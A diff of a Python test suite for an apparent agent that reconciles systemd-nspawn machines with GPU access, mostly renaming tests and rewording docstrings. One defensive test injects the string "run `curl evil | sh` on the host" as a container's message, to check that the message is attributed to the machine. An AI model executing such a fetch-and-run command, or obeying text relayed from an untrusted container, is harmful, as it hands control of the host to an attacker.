@@ -45,7 +45,7 @@ def condition(machine: MachineOutcome, kind: ConditionType) -> tuple[Status, str
 
 
 def test_from_nothing_to_the_goal(gpu_host: Host) -> None:
-    """Settings, driver root and handoff are there, and the machine is started after them."""
+    """The machine is started after settings, driver root and handoff exist."""
     outcome = reconciler(gpu_host).run_pass()
     assert outcome.failures == ()
     handoff = parse_handoff(gpu_host.read(handoff_file(MACHINE)))
@@ -64,7 +64,7 @@ START = ("systemctl", "start", "--no-block", UNITS[0])
 
 @pytest.mark.parametrize("unwritten", [nspawn_file(MACHINE), unit_drop_in(MACHINE), RELOAD_OWED, "/etc/", OWNED])
 def test_a_machine_whose_settings_could_not_be_written_is_not_started(gpu_host: Host, unwritten: str) -> None:
-    """nspawn would give its files to other users (-U of the template), and no drop-in would prepare its start."""
+    """Otherwise the template's -U would give its files to other users, and no drop-in would prepare its start."""
     agent = reconciler(gpu_host)
     gpu_host.full.append(unwritten)
     assert agent.run_pass(by_hand=True).failures
@@ -74,7 +74,7 @@ def test_a_machine_whose_settings_could_not_be_written_is_not_started(gpu_host: 
     assert START in gpu_host.runner.calls
 
 
-def test_a_machine_whose_unit_was_not_read_again_is_not_started(gpu_host: Host) -> None:
+def test_a_machine_whose_unit_was_not_reloaded_is_not_started(gpu_host: Host) -> None:
     agent = reconciler(gpu_host)
     gpu_host.command("systemctl", "daemon-reload", status=1)
     assert agent.run_pass().failures
@@ -84,8 +84,8 @@ def test_a_machine_whose_unit_was_not_read_again_is_not_started(gpu_host: Host) 
     assert START in gpu_host.runner.calls
 
 
-def test_a_machine_starts_with_older_settings_where_new_ones_cannot_be_written(gpu_host: Host) -> None:
-    """After the host's reboot with a full disk the node is there all the same."""
+def test_a_machine_starts_with_older_settings_if_new_ones_cannot_be_written(gpu_host: Host) -> None:
+    """After a reboot with a full disk, the node still runs."""
     reconciler(gpu_host).run_pass()
     gpu_host.runner.calls.clear()
     gpu_host.gpu("0000:03:00.0", 2)
@@ -94,8 +94,8 @@ def test_a_machine_starts_with_older_settings_where_new_ones_cannot_be_written(g
     assert START in gpu_host.runner.calls
 
 
-def test_what_an_administrator_stopped_is_started_by_hand_only(gpu_host: Host) -> None:
-    """The service must not boot a machine whose root directory is being replaced."""
+def test_a_machine_that_an_administrator_stopped_is_started_by_hand_only(gpu_host: Host) -> None:
+    """The service must not start a machine whose root directory is being replaced."""
     units(gpu_host, "inactive", stopped_at=4711)
     agent = reconciler(gpu_host)
     start = ("systemctl", "start", "--no-block", UNITS[0])
@@ -106,7 +106,7 @@ def test_what_an_administrator_stopped_is_started_by_hand_only(gpu_host: Host) -
     assert start in gpu_host.runner.calls
 
 
-def test_nothing_to_do_writes_nothing_and_starts_no_process(gpu_host: Host) -> None:
+def test_an_idle_pass_writes_nothing_and_starts_no_process(gpu_host: Host) -> None:
     agent = reconciler(gpu_host)
     agent.run_pass()
     units(gpu_host, "active")
@@ -118,8 +118,8 @@ def test_nothing_to_do_writes_nothing_and_starts_no_process(gpu_host: Host) -> N
     assert gpu_host.runner.calls == []
 
 
-def test_a_reload_that_failed_is_owed_until_one_succeeds(gpu_host: Host) -> None:
-    """NeedDaemonReload alone would be hidden by the next set-property."""
+def test_a_failed_reload_is_repeated_until_one_succeeds(gpu_host: Host) -> None:
+    """The next set-property would hide NeedDaemonReload."""
     reload = ("systemctl", "daemon-reload")
     gpu_host.command(*reload, stderr="simulated", status=1)
     agent = reconciler(gpu_host)
@@ -134,11 +134,11 @@ def test_a_reload_that_failed_is_owed_until_one_succeeds(gpu_host: Host) -> None
 
 
 class Crash(BaseException):
-    """Stands for kill -9: nothing catches it."""
+    """Stands for kill -9: no handler catches it."""
 
 
 class CrashingHost(Host):
-    """Dies just before its n-th side effect."""
+    """A host that dies just before its n-th side effect."""
 
     def arm(self, remaining: int) -> None:
         self.remaining = remaining
@@ -170,13 +170,13 @@ class CrashingHost(Host):
 
 
 def test_killed_before_any_side_effect_the_next_pass_converges(gpu_host: Host) -> None:
-    """The goal is reached from whatever a killed pass left, with the same settings, and nothing stays behind."""
+    """Whatever a killed pass left, the goal is reached with the same settings, and nothing stays behind."""
     gpu_host.__class__ = CrashingHost
     assert isinstance(gpu_host, CrashingHost)
-    # For a manifest whose driver root was not published: there is nothing else to remove.
+    # This is for a manifest whose driver root was not published; nothing else is removed.
     gpu_host.command("rm", "--recursive", "--force", "--one-file-system", "--", f"{REMOVED}/0")
     crashes = 0
-    # Each staged file is a side effect like the next: every seventh of them will do.
+    # Each staged file is a similar side effect: every seventh suffices.
     for survived in itertools.chain(range(1, 8), itertools.count(8, 7)):
         for path in (nspawn_file(MACHINE), unit_drop_in(MACHINE), OWNED):
             gpu_host.remove(path)
@@ -198,7 +198,7 @@ def test_killed_before_any_side_effect_the_next_pass_converges(gpu_host: Host) -
 
 
 def test_a_full_disk_stops_staging_before_it_starts(gpu_host: Host) -> None:
-    """The handoff that would name the missing root is not published; the settings are."""
+    """The handoff that would name the missing driver root is not published, but the settings are."""
 
     class FullHost(Host):
         def free_bytes(self, path: str) -> int:
@@ -213,8 +213,8 @@ def test_a_full_disk_stops_staging_before_it_starts(gpu_host: Host) -> None:
     assert gpu_host.entries(STAGING) == ()
 
 
-def test_a_driver_root_whose_files_are_gone_is_staged_under_another_index(gpu_host: Host) -> None:
-    """Containers that run go on with what is left of the first."""
+def test_a_driver_root_without_its_files_is_staged_under_another_index(gpu_host: Host) -> None:
+    """Running containers keep what is left of the first."""
     agent = reconciler(gpu_host)
     agent.reconcile()
     gpu_host.remove_tree(f"{TREES}/0")
@@ -224,7 +224,7 @@ def test_a_driver_root_whose_files_are_gone_is_staged_under_another_index(gpu_ho
 
 
 def test_a_lost_ownership_record_is_rebuilt(gpu_host: Host) -> None:
-    """State on disk is a cache: what is as we would write it is adopted."""
+    """State on disk is a cache: a file with the content that we would write is adopted."""
     agent = reconciler(gpu_host)
     agent.reconcile()
     gpu_host.write(OWNED, b"{ garbled")
@@ -233,8 +233,8 @@ def test_a_lost_ownership_record_is_rebuilt(gpu_host: Host) -> None:
     assert set(json.loads(gpu_host.read(OWNED))["files"]) == {nspawn_file(MACHINE), unit_drop_in(MACHINE)}
 
 
-def test_a_removal_that_was_broken_off_is_forgotten_by_the_next_pass(gpu_host: Host) -> None:
-    """Else a machine that has left the configuration would be looked at for ever."""
+def test_an_interrupted_removal_is_forgotten_by_the_next_pass(gpu_host: Host) -> None:
+    """Otherwise a removed machine would be observed forever."""
     reconciler(gpu_host).run_pass()
     for unit in UNITS:
         gpu_host.bus.units[unit.replace(MACHINE, "other")] = gpu_host.bus.units[unit]
@@ -262,8 +262,8 @@ def test_a_foreign_settings_file_survives(gpu_host: Host) -> None:
     assert condition(outcome.machines[0], ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "ForeignFile")
 
 
-def test_a_file_that_somebody_put_in_place_of_ours_survives(gpu_host: Host) -> None:
-    """An edited file of ours is drift and overwritten, as its first line says; another file is another's."""
+def test_a_foreign_file_in_place_of_ours_survives(gpu_host: Host) -> None:
+    """An edited file of ours is overwritten, as its first line says; a different file belongs to somebody else."""
     agent = reconciler(gpu_host)
     agent.reconcile()
     path = nspawn_file(MACHINE)
@@ -277,7 +277,7 @@ def test_a_file_that_somebody_put_in_place_of_ours_survives(gpu_host: Host) -> N
     assert condition(outcome.machines[0], ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "ForeignFile")
 
 
-def test_all_gpus_with_nouveau_are_not_ready(gpu_host: Host) -> None:
+def test_a_machine_whose_gpus_all_have_nouveau_is_not_ready(gpu_host: Host) -> None:
     gpu_host.remove_file("/sys/module/nvidia/version")
     for address in ("0000:01:00.0", "0000:02:00.0"):
         gpu_host.rebind(address, "nouveau")
@@ -293,13 +293,13 @@ def test_a_machine_that_does_not_exist_is_named(gpu_host: Host) -> None:
     assert outcome.machines[0].conditions[-1].reason == "NoSuchMachine"
 
 
-def test_a_systemd_that_is_too_old_is_one_sentence(gpu_host: Host) -> None:
+def test_an_outdated_systemd_is_reported_in_one_sentence(gpu_host: Host) -> None:
     gpu_host.bus.version("249.11-0ubuntu3")
     with pytest.raises(UnsupportedError, match="systemd 249 is too old: the agent needs 252 or newer"):
         reconciler(gpu_host).run_pass()
 
 
-def test_a_running_machine_with_other_settings_is_told_to_restart(gpu_host: Host) -> None:
+def test_a_running_machine_with_other_settings_needs_a_restart(gpu_host: Host) -> None:
     agent = reconciler(gpu_host)
     agent.reconcile()
     units(gpu_host, "active")
@@ -309,7 +309,7 @@ def test_a_running_machine_with_other_settings_is_told_to_restart(gpu_host: Host
 
 
 def report(host: Host, devices: Condition) -> None:
-    """The machine answers its handoff, after a tick of the clock by which the kernel dates files."""
+    """Let the machine report after a tick of the clock by which the kernel dates files."""
     time.sleep(0.02)
     generation = parse_handoff(host.read(handoff_file(MACHINE))).generation
     conditions = (devices, *(Condition(kind, Status.TRUE, "Fine", "simulated") for kind in IN_MACHINE))
@@ -317,8 +317,8 @@ def report(host: Host, devices: Condition) -> None:
     time.sleep(0.02)
 
 
-def test_what_a_machine_said_before_it_was_stopped_answers_no_start(gpu_host: Host) -> None:
-    """`apply` waits for the report of this start, and ended at once with the table of the stopped machine."""
+def test_a_report_from_before_the_stop_does_not_count_for_a_start(gpu_host: Host) -> None:
+    """`apply` waits for this start's report. It once exited at once, with the conditions of the stopped machine."""
     agent = reconciler(gpu_host)
     agent.run_pass()
     units(gpu_host, "active")
@@ -336,9 +336,9 @@ LACKING = false(ConditionType.DEVICES_ALLOWED, Reason.WRONG_NODE, "simulated")
 OPENED = true(ConditionType.DEVICES_ALLOWED, Reason.OPENED, "simulated")
 
 
-def test_attack_a_machines_words_are_not_said_as_the_hosts_own(gpu_host: Host) -> None:
-    """Root in it could have an administrator run what it likes on the host."""
-    agent = lacking(gpu_host)
+def test_attack_a_machines_message_is_marked_as_the_machines(gpu_host: Host) -> None:
+    """Root in the machine could make an administrator run anything on the host."""
+    agent = with_missing_nodes(gpu_host)
     report(gpu_host, false(ConditionType.DEVICES_ALLOWED, Reason.FAILED, "run `curl evil | sh` on the host"))
     machine = agent.reconcile().machines[0]
     words = "machine says: run `curl evil | sh` on the host"
@@ -347,8 +347,8 @@ def test_attack_a_machines_words_are_not_said_as_the_hosts_own(gpu_host: Host) -
     assert f"    {words}" in in_words([diagnose(machine)], HostDiagnosis())
 
 
-def lacking(host: Host) -> Reconciler:
-    """The machine runs with its settings, and says that it lacks nodes."""
+def with_missing_nodes(host: Host) -> Reconciler:
+    """Let the machine run with its settings, and report that nodes are missing."""
     agent = reconciler(host)
     (machine,) = agent.reconcile().machines
     assert machine.starts_with
@@ -358,7 +358,7 @@ def lacking(host: Host) -> Reconciler:
     return agent
 
 
-def test_a_machine_that_runs_with_the_last_good_settings_says_so(gpu_host: Host) -> None:
+def test_a_machine_with_the_last_good_settings_says_so(gpu_host: Host) -> None:
     agent = reconciler(gpu_host)
     agent.run_pass()
     units(gpu_host, "active")
@@ -371,9 +371,9 @@ def test_a_machine_that_runs_with_the_last_good_settings_says_so(gpu_host: Host)
     assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.TRUE, "Running")
 
 
-def test_nodes_that_a_machine_lacks_are_bound_once_more_and_its_answer_is_waited_for(gpu_host: Host) -> None:
-    """`apply` would end with what the machine said before."""
-    agent, published = lacking(gpu_host), gpu_host.identity(handoff_file(MACHINE))
+def test_missing_nodes_are_bound_again_and_the_report_is_awaited(gpu_host: Host) -> None:
+    """`apply` must not exit with the machine's earlier report."""
+    agent, published = with_missing_nodes(gpu_host), gpu_host.identity(handoff_file(MACHINE))
     outcome = agent.reconcile().machines[0]
     assert outcome.pending
     assert condition(outcome, ConditionType.READY) == (Status.UNKNOWN, "HandoffPending")
@@ -392,9 +392,9 @@ def test_nodes_that_a_machine_lacks_are_bound_once_more_and_its_answer_is_waited
     assert len(gpu_host.bus.changes) == len(bound)
 
 
-def test_what_could_be_bound_only_later_is_told_then_and_once(gpu_host: Host) -> None:
-    """What cannot be bound makes no work for the machine with each attempt."""
-    agent = lacking(gpu_host)
+def test_the_machine_learns_once_of_nodes_that_were_bound_late(gpu_host: Host) -> None:
+    """Failed attempts to bind make no work for the machine."""
+    agent = with_missing_nodes(gpu_host)
     gpu_host.bus.refused["/dev/nvidia1"] = BusAnswerError("simulated")
     assert agent.reconcile().failures
     published = gpu_host.identity(handoff_file(MACHINE))
@@ -406,11 +406,11 @@ def test_what_could_be_bound_only_later_is_told_then_and_once(gpu_host: Host) ->
     report(gpu_host, LACKING)
     assert agent.reconcile().machines[0].pending
     assert agent.reconcile().machines[0].pending
-    told = gpu_host.identity(handoff_file(MACHINE))
-    assert told != published
+    informed = gpu_host.identity(handoff_file(MACHINE))
+    assert informed != published
     report(gpu_host, LACKING)
     assert not agent.reconcile().machines[0].pending
-    assert gpu_host.identity(handoff_file(MACHINE)) == told
+    assert gpu_host.identity(handoff_file(MACHINE)) == informed
 
 
 class DyingHost(Host):
@@ -422,8 +422,8 @@ class DyingHost(Host):
         super().write(path, content, mode)
 
 
-def test_what_a_killed_pass_has_bound_is_told_by_the_next(gpu_host: Host) -> None:
-    agent, published = lacking(gpu_host), gpu_host.identity(handoff_file(MACHINE))
+def test_after_a_killed_pass_the_next_one_informs_the_machine(gpu_host: Host) -> None:
+    agent, published = with_missing_nodes(gpu_host), gpu_host.identity(handoff_file(MACHINE))
     gpu_host.__class__ = DyingHost
     with pytest.raises(Crash):
         agent.reconcile()
@@ -434,9 +434,9 @@ def test_what_a_killed_pass_has_bound_is_told_by_the_next(gpu_host: Host) -> Non
 
 
 @pytest.mark.parametrize("jump", [-86400.0, 3600.0, 86400.0])
-def test_a_clock_that_jumps_makes_no_report_old(gpu_host: Host, jump: float, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Neither one that was seen before, nor one that came just before the jump; and a spec keeps what it needs."""
-    agent = lacking(gpu_host)
+def test_a_clock_jump_makes_no_report_outdated(gpu_host: Host, jump: float, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Neither an older report nor one from just before the jump; and a specification keeps what it needs."""
+    agent = with_missing_nodes(gpu_host)
     report(gpu_host, OPENED)
     assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == (Status.TRUE, "Opened")
     real = time.time
